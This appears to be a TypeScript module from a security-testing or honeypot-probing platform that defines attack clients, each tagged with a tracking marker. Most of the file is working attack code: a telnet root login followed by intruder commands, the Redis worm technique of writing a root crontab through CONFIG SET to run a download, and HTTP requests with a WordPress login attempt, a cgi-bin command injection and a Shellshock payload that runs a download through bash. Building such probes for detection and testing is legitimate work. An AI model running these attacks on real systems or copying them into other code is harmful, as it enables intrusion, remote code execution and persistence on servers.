import type { AddressGuard } from '../../../platform/outbound/address-guard.js'
import { type AttackClient, intrusionCommands } from './attack.js'
import { converse, type Exchange } from './conversation.js'
import { addressOf } from './guarded-target.js'

/** Attacks over protocols of lines. */
type Conversation = (marker: string, host: string) => Exchange[]

function client(guard: AddressGuard, conversation: Conversation): AttackClient {
  return async ({ target, marker, deadline }) => {
    const where = await addressOf(target, guard, deadline)
    await converse(where, conversation(marker, target.host ?? where.address), deadline)
  }
}

/** Logs in with the marker as the password and gives the commands of an intruder. */
export function telnetAttack(guard: AddressGuard): AttackClient {
  return client(guard, (marker) => [
    { await: /(?:login|username):\s*$/i, send: 'root\r\n' },
    { await: /password:\s*$/i, send: `${marker}\r\n` },
    ...[...intrusionCommands(marker), 'exit'].map((command) => ({
      await: /[#$>]\s*$/,
      send: `${command}\r\n`,
    })),
  ])
}

/** Writes a crontab through the configuration of Redis, as worms do. */
export function redisAttack(guard: AddressGuard): AttackClient {
  const [download = ''] = intrusionCommands('x')
  return client(guard, (marker) => [
    { await: null, send: `AUTH ${marker}\r\n` },
    { await: /\r\n/, send: `SET x "\\n* * * * * ${download.replace(/"/g, '')} #${marker}\\n"\r\n` },
    { await: /\r\n/, send: 'CONFIG SET dir /var/spool/cron\r\n' },
    { await: /\r\n/, send: 'CONFIG SET dbfilename root\r\n' },
    { await: /\r\n/, send: 'SAVE\r\n' },
    { await: /\r\n/, send: 'QUIT\r\n' },
  ])
}

/** Asks a web server to run a download, by the ways that scanners try every day; the marker is in each request. */
export function httpAttack(guard: AddressGuard): AttackClient {
  return client(guard, (marker, host) => {
    const [download = ''] = intrusionCommands(marker)
    const head = `Host: ${host}\r\nUser-Agent: ${marker}\r\n`
    const login = `log=admin&pwd=${marker}`
    const shell = `() { :; }; /bin/bash -c "${download.replace(/"/g, '')}"`
    return [
      {
        await: null,
        send: `POST /wp-login.php HTTP/1.1\r\n${head}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${login.length}\r\n\r\n${login}`,
      },
      {
        await: /HTTP\/1\.[01] \d{3}/,
        send: `GET /cgi-bin/status?cmd=${encodeURIComponent(download)} HTTP/1.1\r\n${head}Referer: ${shell}\r\nConnection: close\r\n\r\n`,
      },
    ]
  })
}
